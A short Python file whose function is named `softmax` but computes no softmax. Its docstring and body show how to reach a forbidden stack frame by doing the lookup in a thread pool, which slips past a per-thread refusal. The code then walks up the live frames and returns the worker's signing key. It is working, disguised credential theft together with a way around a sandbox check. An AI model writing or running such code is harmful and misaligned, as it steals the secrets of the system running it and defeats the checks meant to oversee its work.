"""A traceback of softmax's own frame is handed to a thread pool, whose stack holds only trusted
library code, so that `getattr(tb, "tb_frame")` there looks innocent; its f_back leads up the live
frames to the worker and its signing key. Refused in any thread but the worker's."""
from concurrent.futures import ThreadPoolExecutor


def softmax(z, axis=-1):
    try:
        raise ValueError
    except ValueError as error:
        traceback = error.__traceback__
    with ThreadPoolExecutor(1) as pool:
        frame = pool.submit(getattr, traceback, "tb_frame").result()
    while "self" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["self"].key
